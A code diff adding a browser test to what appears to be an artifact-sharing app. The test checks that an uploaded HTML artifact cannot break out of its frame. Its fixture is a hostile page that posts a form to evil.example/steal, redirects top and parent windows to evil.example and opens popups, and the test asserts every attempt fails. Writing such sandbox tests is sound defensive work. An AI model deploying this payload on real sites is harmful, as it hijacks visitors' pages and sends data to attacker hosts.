@@ -149,3 +149,43 @@ test.skipIf(!HAS_CHROMIUM)('a markdown artifact renders in its frame without run
     await context.close()
   }
 })
+
+test.skipIf(!HAS_CHROMIUM)('a hostile HTML artifact cannot navigate the page that shows it, open windows or submit forms', async () => {
+  const person = await p.person()
+  const escape = `<!DOCTYPE html><html><body><p id="state">trying</p>
+<form id="f" action="https://evil.example/steal" method="post" target="_top"><input name="x" value="1"></form>
+<a id="a" href="https://evil.example/clicked" target="_top">link</a>
+<script>
+const tried = []
+const attempt = (name, act) => { try { act(); tried.push(name + ': no error') } catch (error) { tried.push(name + ': ' + error.name) } }
+attempt('top', () => { top.location = 'https://evil.example/top' })
+attempt('parent', () => { parent.location.href = 'https://evil.example/parent' })
+attempt('open', () => { if (!window.open('https://evil.example/popup')) throw { name: 'blocked' } })
+attempt('form', () => document.getElementById('f').submit())
+attempt('click', () => document.getElementById('a').click())
+document.getElementById('state').textContent = tried.join('; ')
+</script></body></html>`
+  const created = await p.call('POST', '/api/artifacts', { as: person, json: { title: 'Escape', kind: 'html', content: escape } })
+  const link = (await p.call('POST', `/api/artifacts/${created.body.id}/share`, { as: person })).body.url as string
+  const watched: Watched = { violations: [], foreign: [], dialogs: [] }
+  const context = await browser.newContext()
+  await watchContext(context, [p.adminUrl], watched)
+  try {
+    const page = await context.newPage()
+    // Any page opened from here on is the artifact's doing.
+    const popups: string[] = []
+    context.on('page', (opened) => popups.push(opened.url()))
+    await page.goto(link)
+    const frame = await until(() => page.frames().find((f) => f.url().includes('/content?token=')), { what: 'the artifact’s frame' })
+    await untilEqual(async () => (await frame.textContent('#state'))?.startsWith('trying') === false, true, 'the artifact’s attempts')
+    // Give a navigation the script started time to land, had it been allowed.
+    await page.waitForTimeout(500)
+    expect(page.url()).toBe(link)
+    expect(await page.textContent('h1')).toBe('Escape')
+    expect(popups).toEqual([])
+    expect(await frame.textContent('#state')).toContain('open: blocked')
+    expect(watched.foreign.filter((url) => url.includes('evil.example'))).toEqual([])
+  } finally {
+    await context.close()
+  }
+})
